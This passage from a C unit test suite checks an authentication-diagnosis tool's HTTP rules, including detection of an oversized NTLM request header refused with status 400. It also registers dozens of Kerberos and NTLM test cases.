	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "bob@LAB.TEST"));
	fx_free(r);
}
END_TEST

/* A large NTLM request header refused with 400, a smaller one answered 401. */
START_TEST(t_token_too_large_header_ntlm)
{
	struct kf_result *r = fx_new();
	get(r, 4, 1, C, WEB, "dav.example", NULL, 0, 150);
	fx_http_resp(r, 5, 1, WEB, C, 401, "NTLM", NULL, 4);
	struct kf_message *a = fx_http(r, 6, KF_MSG_NTLM_AUTHENTICATE, 1, C, WEB);
	a->ntlm = kf_arena_zalloc(&r->arena, sizeof *a->ntlm);
	a->ntlm->domain = "LAB";
	a->ntlm->user = "alice";
	get(r, 6, 1, C, WEB, "dav.example", "NTLM", 400, 9000);
	fx_http_resp(r, 7, 1, WEB, C, 400, NULL, NULL, 6);
	fx_finish(r);
	fx_run(r, "token-too-large");
	ck_assert_uint_eq(fx_count(r, "token-too-large", KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_find(r, "token-too-large");
	ck_assert_str_eq(f->cause, "header-too-large");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 4) && fx_has_frame(f, 6) && fx_has_frame(f, 7));
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "LAB\\alice"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10"));
	fx_free(r);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("rules_http");
	TCase *tc = tcase_create("http");
	tcase_add_test(tc, t_fix_hostile_name);
	tcase_add_test(tc, t_ntlm_principal_unknown);
	tcase_add_test(tc, t_ntlm_failed_is_error);
	tcase_add_test(tc, t_ntlm_plain_no_kdc);
	tcase_add_test(tc, t_ntlm_server_offers_only_ntlm);
	tcase_add_test(tc, t_ntlm_proxy_spn_unknown);
	tcase_add_test(tc, t_ntlm_ip_address);
	tcase_add_test(tc, t_ntlm_not_on_kerberos);
	tcase_add_test(tc, t_portless_rejected_takes_ap_err);
	tcase_add_test(tc, t_portless_works_is_info);
	tcase_add_test(tc, t_proxy_key_error_is_the_proxys);
	tcase_add_test(tc, t_proxy_healthy_silent);
	tcase_add_test(tc, t_portless_not_us_nokey);
	tcase_add_test(tc, t_portless_near_misses);
	tcase_add_test(tc, t_ap_err_badkeyver);
	tcase_add_test(tc, t_ap_err_modified_windows);
	tcase_add_test(tc, t_ap_err_near_misses);
	tcase_add_test(tc, t_ap_err_tgs_from_kdc);
	tcase_add_test(tc, t_token_in_app_protocol);
	tcase_add_test(tc, t_cname_canonicalised_info);
	tcase_add_test(tc, t_cname_alias_refused_warning);
	tcase_add_test(tc, t_cname_near_misses);
	tcase_add_test(tc, t_auth_loop_authorization);
	tcase_add_test(tc, t_auth_loop_proxy);
	tcase_add_test(tc, t_auth_loop_krb_errors);
	tcase_add_test(tc, t_auth_loop_near_misses);
	tcase_add_test(tc, t_token_too_large);
	tcase_add_test(tc, t_token_too_large_likely_and_431);
	tcase_add_test(tc, t_token_too_large_near_misses);
	tcase_add_test(tc, t_request_based);
	tcase_add_test(tc, t_request_based_near_misses);
	tcase_add_test(tc, t_ntlm_ticket_not_used);
	tcase_add_test(tc, t_ntlm_app_chose_ntlm);
	tcase_add_test(tc, t_ntlm_no_ticket_request);
	tcase_add_test(tc, t_portless_bare_401);
	tcase_add_test(tc, t_ap_err_trust_key);
	tcase_add_test(tc, t_ap_err_keytab_causes);
	tcase_add_test(tc, t_cname_presented_ticket);
	tcase_add_test(tc, t_http_spn_causes_listed);
	suite_add_tcase(s, tc);
	TCase *tok = tcase_create("http-token-causes");
	tcase_add_test(tok, t_auth_loop_undetermined);
	tcase_add_test(tok, t_auth_loop_user_is_ticket_holder);
	tcase_add_test(tok, t_token_too_large_header_ntlm);
	tcase_add_test(tok, t_story_http_ntlm_outcome);
	suite_add_tcase(s, tok);
	return kf_test_run(s);
}
